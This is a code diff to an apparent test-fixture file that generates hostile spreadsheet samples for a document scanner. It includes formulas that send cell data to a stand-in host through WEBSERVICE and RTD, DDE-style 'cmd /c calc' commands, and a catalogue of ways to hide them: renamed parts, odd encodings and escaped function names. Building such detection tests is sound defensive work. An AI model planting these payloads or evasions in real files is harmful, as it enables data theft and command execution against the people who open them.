@@ -67,6 +67,155 @@ const sheet = (inner: string) =>
   `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</x:worksheet>`
 const cell = (formula: string) => sheet(`<x:sheetData><x:c><x:f>${formula}</x:f></x:c></x:sheetData>`)
 
+/** Where a workbook has formulas besides its cells, each with a place for one. */
+const formulaPlaces: readonly (readonly [where: string, part: string, write: (formula: string) => string])[] =
+  [
+    [
+      'a defined name',
+      'xl/workbook2.xml',
+      (formula) =>
+        `<x:workbook xmlns:x="u"><x:definedNames><x:definedName name="rate">${formula}</x:definedName></x:definedNames></x:workbook>`,
+    ],
+    [
+      'a condition of formatting',
+      'xl/worksheets/sheet1.xml',
+      (formula) =>
+        sheet(
+          `<x:conditionalFormatting sqref="A1"><x:cfRule type="expression"><x:formula>${formula}</x:formula></x:cfRule></x:conditionalFormatting>`,
+        ),
+    ],
+    [
+      'a bound of a scale of colours',
+      'xl/worksheets/sheet1.xml',
+      (formula) =>
+        sheet(
+          `<x:cfRule type="colorScale"><x:colorScale><x:cfvo type="formula" val="${formula.replaceAll('"', '&quot;')}"/></x:colorScale></x:cfRule>`,
+        ),
+    ],
+    [
+      'the first bound of a validation',
+      'xl/worksheets/sheet1.xml',
+      (formula) =>
+        sheet(`<x:dataValidation type="list"><x:formula1>${formula}</x:formula1></x:dataValidation>`),
+    ],
+    [
+      'the second bound of a validation',
+      'xl/worksheets/sheet1.xml',
+      (formula) =>
+        sheet(
+          `<x:dataValidation><x:formula1>1</x:formula1><x:formula2>${formula}</x:formula2></x:dataValidation>`,
+        ),
+    ],
+    [
+      'a validation of 2010',
+      'xl/worksheets/sheet1.xml',
+      (formula) =>
+        sheet(
+          `<x14:dataValidation xmlns:x14="u14" xmlns:xm="um"><x14:formula1><xm:f>A1</xm:f></x14:formula1><x14:formula2><xm:f>${formula}</xm:f></x14:formula2></x14:dataValidation>`,
+        ),
+    ],
+    [
+      'a column of a table',
+      'xl/tables/table1.xml',
+      (formula) =>
+        `<table xmlns="u"><tableColumn><calculatedColumnFormula>${formula}</calculatedColumnFormula></tableColumn></table>`,
+    ],
+    [
+      'the totals of a table',
+      'xl/tables/table1.xml',
+      (formula) =>
+        `<table xmlns="u"><tableColumn><totalsRowFormula>${formula}</totalsRowFormula></tableColumn></table>`,
+    ],
+    [
+      'an item that a pivot reckons',
+      'xl/pivotCache/pivotCacheDefinition1.xml',
+      (formula) =>
+        `<pivotCacheDefinition xmlns="u"><calculatedItem formula="${formula.replaceAll('"', '&quot;')}"/></pivotCacheDefinition>`,
+    ],
+    [
+      'a field that a pivot reckons',
+      'xl/pivotCache/pivotCacheDefinition1.xml',
+      (formula) =>
+        `<pivotCacheDefinition xmlns="u"><cacheField y:formula="1" xmlns:y="v" formula="${formula.replaceAll('"', '&quot;')}"/></pivotCacheDefinition>`,
+    ],
+    [
+      'a chart',
+      'xl/charts/chart1.xml',
+      (formula) => `<c:ser xmlns:c="u"><c:val><c:numRef><c:f>${formula}</c:f></c:numRef></c:val></c:ser>`,
+    ],
+    [
+      'the labels of a chart of 2013',
+      'xl/charts/chart1.xml',
+      (formula) => `<c15:formulaRef xmlns:c15="u"><c15:sqref>${formula}</c15:sqref></c15:formulaRef>`,
+    ],
+    [
+      'the text of a shape',
+      'xl/drawings/drawing1.xml',
+      (formula) => `<xdr:sp xmlns:xdr="u" macro="" textlink="${formula.replaceAll('"', '&quot;')}"/>`,
+    ],
+    [
+      'a list to choose from',
+      'xl/ctrlProps/ctrlProp1.xml',
+      (formula) => `<formControlPr xmlns="u" fmlaRange="${formula.replaceAll('"', '&quot;')}"/>`,
+    ],
+    [
+      'a picture of the older kind',
+      'xl/drawings/vmlDrawing1.vml',
+      (formula) =>
+        `<xml xmlns:x="u"><x:ClientData ObjectType="Pict"><x:FmlaPict>${formula}</x:FmlaPict></x:ClientData></xml>`,
+    ],
+  ]
+
+function formulas(): HostileDocument[] {
+  const reaching = [
+    ['WEBSERVICE', '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'],
+    ['a command', "cmd|'/c calc'!A1"],
+  ] as const
+  const fetching = cell(reaching[0][1])
+  return [
+    ...formulaPlaces.flatMap(([where, part, write]) =>
+      reaching.map(([what, formula]) => excel(`${what} in ${where}`, write(formula), part)),
+    ),
+    // The relations of a workbook may give any part any name.
+    ...formulaPlaces.map(([where, , write]) =>
+      excel(`RTD in ${where}, the part renamed`, write('RTD("evil.server",,"x")'), 'xl/other/a.xml'),
+    ),
+    excel('a sheet named as a picture', fetching, 'xl/media/image1.png'),
+    excel('a sheet named as a picture, after blank lines', `\ufeff\n\n${fetching}`, 'xl/media/image1.png'),
+    excel('a sheet named as a font, in UTF-16', writings['in UTF-16'](fetching), 'xl/fonts/a.odttf'),
+    excel(
+      'a sheet named as a film, in an encoding of its own',
+      latin1(`<?xml version="1.0" encoding="windows-1252"?><!-- \xe9 -->${fetching}`),
+      'xl/media/a.mp4',
+    ),
+    excel('a sheet named as settings of a printer', fetching, 'xl/printerSettings/sheet1.bin'),
+    excel(
+      'a sheet that passes for settings of a Mac’s printer',
+      `<!DOCTYPE plist>${fetching}<!--<plist-->`,
+      'xl/printerSettings/sheet1.bin',
+    ),
+    excel(
+      'a sheet that names such settings in its DOCTYPE',
+      `<!DOCTYPE plist SYSTEM "> <plist ">${fetching}`,
+      'xl/printerSettings/sheet1.bin',
+    ),
+    excel('a formula with an element in it', cell('WEB<x:b/>SERVICE("https://evil.example")')),
+    excel(
+      'a formula between sheets with marks in their names',
+      cell(`'a"b'!A1&amp;WEBSERVICE(A2)&amp;'c"d'!A1`),
+    ),
+    excel(
+      'a formula between columns with marks in their names',
+      cell(`T[a'#"]&amp;WEBSERVICE(A2)&amp;T[b'#"]`),
+    ),
+    excel(
+      'a formula behind a mark in a column’s name',
+      cell(`T[a'#]&amp;"x'"&amp;WEBSERVICE("https://evil.example")`),
+    ),
+    excel('WEBSERVICE with a letter as Excel escapes it', cell('_x0057_EBSERVICE("https://evil.example")')),
+  ]
+}
+
 function office(): HostileDocument[] {
   return [
     word('a DDE field in one run', field([' DDE cmd "/c calc" '])),
@@ -225,4 +374,9 @@ function pdfs(): HostileDocument[] {
   ]
 }
 
-export const hostileDocuments: readonly HostileDocument[] = [...relations(), ...office(), ...pdfs()]
+export const hostileDocuments: readonly HostileDocument[] = [
+  ...relations(),
+  ...office(),
+  ...formulas(),
+  ...pdfs(),
+]
